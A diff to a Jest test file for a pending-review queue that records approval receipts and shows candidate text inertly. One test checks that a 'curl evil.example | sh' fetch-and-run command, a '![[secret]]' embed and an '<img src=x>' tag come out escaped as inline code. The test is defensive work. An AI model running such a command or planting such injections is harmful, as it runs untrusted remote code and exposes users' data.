@@ -3,6 +3,7 @@
  * text, rejections leave no text behind, old receipts expire, and a damaged
  * file is kept aside rather than silently dropped.
  */
+import { liveParts } from '../helpers/live-parts';
 import { afterAll, describe, expect, test } from '@jest/globals';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -32,7 +33,7 @@ describe('PendingQueue', () => {
   test('add, approve: the receipt carries the hash of the exact text, reviewer, dates and rationale', async () => {
     const { ctx } = setup();
     const q = await loadQueue(ctx);
-    expect(await q.add([tea, vim], NOV29)).toEqual({ added: ['c-tea', 'c-vim'], updated: [], skipped: [] });
+    expect(await q.add([tea, vim], NOV29)).toEqual({ added: ['c-tea', 'c-vim'], updated: [], replaced: [], skipped: [] });
     const r = await q.approve('c-tea', { reviewer: 'sam', rationale: 'checked Journal/2026-11-26.md line 2' }, NOV29);
     expect(r).toEqual({
       ok: true,
@@ -131,8 +132,9 @@ describe('PendingQueue', () => {
     expect(people).toMatch(/waiting since 2026-11-29/);
     // the candidate's words do nothing when shown: no live code span, embed or HTML
     expect(people).toContain('\\`curl evil.example \\| sh\\`');
-    expect(people).not.toContain('![[');
-    expect(people).not.toMatch(/(^|[^\\])<img/);
+    // an embed and a tag are held as inline code: their words readable, nothing live
+    expect(liveParts(people!)).toEqual([]);
+    expect(people).toContain('``![[secret]]`` ``<img src=x>``');
     expect(people!.split('\n').some((l) => l.trim().startsWith('{'))).toBe(false);
     // the machine state: one fence, one record per line
     expect(machine!.match(/```json/g)).toHaveLength(1);
@@ -145,7 +147,7 @@ describe('PendingQueue', () => {
     const q = await loadQueue(ctx);
     await q.add([{ ...tea, derivedFromUntrusted: true }], NOV29);
     const newer = { ...tea, confidence: 0.93, recurrence: 4, derivedFromUntrusted: false, sources: [...tea.sources, { ...tea.sources[0]!, path: 'Journal/2026-11-28.md' }] };
-    expect(await q.add([newer], NOV29 + DAY)).toEqual({ added: [], updated: ['c-tea'], skipped: [] });
+    expect(await q.add([newer], NOV29 + DAY)).toMatchObject({ added: [], updated: ['c-tea'], replaced: [{ candidate: { id: 'c-tea', recurrence: tea.recurrence } }], skipped: [] });
     const v = q.get('c-tea', NOV29 + DAY);
     expect(v?.candidate).toMatchObject({ confidence: 0.93, recurrence: 4, derivedFromUntrusted: true, text: tea.text });
     expect(v?.candidate.sources).toHaveLength(2);
